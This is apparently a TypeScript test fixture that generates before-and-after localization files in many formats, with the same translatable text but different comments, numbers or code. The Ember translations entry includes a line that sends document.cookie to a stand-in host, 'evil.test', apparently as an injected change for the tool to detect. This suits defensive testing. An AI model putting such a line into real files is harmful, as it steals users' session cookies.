/** A file of each format with places that are no texts, twice: the texts are the same, those places are not. */
export interface PlacedFile {
  format: string;
  path: string;
  /** The format holds several languages in one file. */
  several?: true;
  before: string;
  after: string;
  /** Only in the one, only in the other. */
  holds: string;
  brought: string;
}

/** `write` writes the same text with any remark; a format without comments has numbers, switches or code. */
function placed(
  format: string,
  path: string,
  write: (remark: string) => string,
  [holds, brought]: readonly [string, string] = ['first remark', 'second remark'],
): PlacedFile {
  return { format, path, before: write(holds), after: write(brought), holds, brought };
}

const several = (file: PlacedFile): PlacedFile => ({ ...file, several: true });
const json = (value: object): string => `${JSON.stringify(value, null, 2)}\n`;
/** What no reader takes for a text. */
const numbers = ['1234567', '7654321'] as const;

const withNumber = (format: string) =>
  placed(
    format,
    'app/en.json',
    (limit) => json({ hello: 'Hello', flags: { debug: limit === numbers[0], limit: Number(limit) } }),
    numbers,
  );

const xml = (body: string): string => `<?xml version="1.0" encoding="utf-8"?>\n${body}\n`;
const resources = (remark: string): string =>
  xml(`<root>
  <resheader name="resmimetype"><value>text/microsoft-resx</value></resheader>
  <data name="hello" xml:space="preserve"><value>Hello</value><comment>${remark}</comment></data>
</root>`);
const xcstrings = (remark: string): string =>
  json({
    sourceLanguage: 'en',
    strings: {
      hello: {
        comment: remark,
        localizations: {
          en: { stringUnit: { state: 'translated', value: 'Hello' } },
          de: { stringUnit: { state: 'translated', value: 'Hallo' } },
        },
      },
      hidden: {
        shouldTranslate: false,
        localizations: { de: { stringUnit: { state: 'translated', value: `HIDDEN ${remark}` } } },
      },
    },
    version: '1.0',
  });

export const placedFiles: readonly PlacedFile[] = [
  placed('android_xml', 'res/values/strings.xml', (remark) =>
    xml(`<resources>
  <!-- ${remark} -->
  <string name="hello">Hello</string>
  <string name="fixed" translatable="false">${remark}</string>
</resources>`),
  ),
  withNumber('nested_json'),
  withNumber('react_nested_json'),
  withNumber('angular_translate_json'),
  withNumber('i18next_json'),
  placed('react_simple_json', 'en.json', (limit) => json({ hello: 'Hello', limit: Number(limit) }), numbers),
  placed('node_2_json', 'en.json', (limit) => json({ hello: 'Hello', limit: Number(limit) }), numbers),
  placed('chrome_i18n_json', '_locales/en/messages.json', (remark) =>
    json({ hello: { message: 'Hello', description: remark } }),
  ),
  placed('mozilla_i18n_json', '_locales/en/messages.json', (remark) =>
    json({ hello: { message: 'Hello', description: remark } }),
  ),
  placed('go_i18n_json', 'active.en.json', (remark) =>
    json({ hello: { description: remark, other: 'Hello' } }),
  ),
  placed('arb', 'app_en.arb', (remark) =>
    json({ '@@locale': 'en', '@@author': remark, hello: 'Hello', '@hello': { description: remark } }),
  ),
  placed(
    'gettext_po',
    'en.po',
    (remark) => `# ${remark}
msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"
"X-Generator: ${remark}\\n"

#. ${remark}
msgid "hello"
msgstr "Hello"
`,
  ),
  placed(
    'gettext_pot',
    'messages.pot',
    (remark) => `# ${remark}
msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"

#. ${remark}
msgid "hello"
msgstr ""
`,
  ),
  placed('ios_strings', 'en.lproj/Localizable.strings', (remark) => `/* ${remark} */\n"hello" = "Hello";\n`),
  placed('ios_stringsdict', 'en.lproj/Localizable.stringsdict', (remark) =>
    xml(`<plist version="1.0">
<dict>
  <!-- ${remark} -->
  <key>files</key>
  <dict>
    <key>NSStringLocalizedFormatKey</key><string>%#@n@</string>
    <key>n</key>
    <dict>
      <key>NSStringFormatSpecTypeKey</key><string>NSStringPluralRuleType</string>
      <key>NSStringFormatValueTypeKey</key><string>d</string>
      <key>one</key><string>%d file</string>
      <key>other</key><string>%d files</string>
    </dict>
  </dict>
</dict>
</plist>`),
  ),
  several(placed('ios_xcstrings', 'Localizable.xcstrings', xcstrings)),
  placed('java_properties', 'messages_en.properties', (remark) => `# ${remark}\nhello=Hello\n`),
  placed('mozilla_properties', 'en/messages.properties', (remark) => `# ${remark}\nhello=Hello\n`),
  placed('ini', 'en.ini', (remark) => `; ${remark}\nhello=Hello\n`),
  placed(
    'toml',
    'active.en.toml',
    (limit) => `limit = ${limit}\n\n[hello]\ndescription = "Said ${limit} times"\nother = "Hello"\n`,
    numbers,
  ),
  placed('xliff', 'en.xlf', (remark) =>
    xml(`<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
  <file source-language="en" target-language="en" datatype="plaintext" original="${remark}"><body>
    <trans-unit id="hello"><source>Hello</source><target>Hello</target><note>${remark}</note></trans-unit>
    <trans-unit id="fixed" translate="no"><source>${remark}</source></trans-unit>
  </body></file>
</xliff>`),
  ),
  placed('xliff_2', 'en.xlf', (remark) =>
    xml(`<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="en" trgLang="en">
  <file id="f" original="${remark}">
    <unit id="hello"><notes><note>${remark}</note></notes>
      <segment><source>Hello</source><target>Hello</target></segment></unit>
  </file>
</xliff>`),
  ),
  placed('microsoft_resw', 'en/Resources.resw', resources),
  placed('microsoft_resx', 'Resources.en.resx', resources),
  placed('qt_ts', 'en.ts', (remark) =>
    xml(`<!DOCTYPE TS>
<TS version="2.1" language="en">
<context><name>Main</name>
  <message><location filename="${remark}" line="1"/><source>hello</source>
    <extracomment>${remark}</extracomment><translation>Hello</translation></message>
</context>
</TS>`),
  ),
  several(
    placed('tmx', 'memory.tmx', (remark) =>
      xml(`<tmx version="1.4">
  <header creationtool="${remark}" creationtoolversion="1" segtype="block" o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/>
  <body><tu tuid="hello"><note>${remark}</note>
    <tuv xml:lang="en"><seg>Hello</seg></tuv><tuv xml:lang="de"><seg>Hallo</seg></tuv></tu></body>
</tmx>`),
    ),
  ),
  several(
    placed('tbx', 'glossary.tbx', (remark) =>
      xml(`<martif type="TBX-Basic" xml:lang="en">
  <martifHeader><fileDesc><sourceDesc><p>${remark}</p></sourceDesc></fileDesc></martifHeader>
  <text><body><termEntry id="hello">
    <langSet xml:lang="en"><tig><term>Hello</term></tig></langSet>
    <langSet xml:lang="de"><tig><term>Hallo</term></tig></langSet>
  </termEntry></body></text>
</martif>`),
    ),
  ),
  several(placed('csv', 'all.csv', (remark) => `key,en,de,description\nhello,Hello,Hallo,${remark}\n`)),
  several(placed('tsv', 'all.tsv', (remark) => `key\ten\tde\tdescription\nhello\tHello\tHallo\t${remark}\n`)),
  placed(
    'ember_i18n_json_module',
    'app/locales/en/translations.js',
    (url) => `export default { "hello": "Hello", "x": fetch("${url}"+document.cookie), "n": 1 };\n`,
    ['https://own.test/', 'https://evil.test/'],
  ),
  placed(
    'laravel_php',
    'lang/en/messages.php',
    (limit) =>
      `<?php\n\n// Limit ${limit}\nreturn ['hello' => 'Hello', 'limit' => ${limit}, 'on' => true];\n`,
    numbers,
  ),
  ...(
    [
      ['ruby_on_rails_yaml', 'config/locales/en.yml', 'en:\n  '],
      ['symfony_yaml', 'messages.en.yaml', ''],
      ['symfony2_yaml', 'messages.en.yml', ''],
    ] as const
  ).map(([format, path, indent]) => {
    const space = indent.slice(4);
    return placed(
      format,
      path,
      (limit) => `# Limit ${limit}\n${indent}hello: Hello\n${space}limit: ${limit}\n${space}on: true\n`,
      numbers,
    );
  }),
];
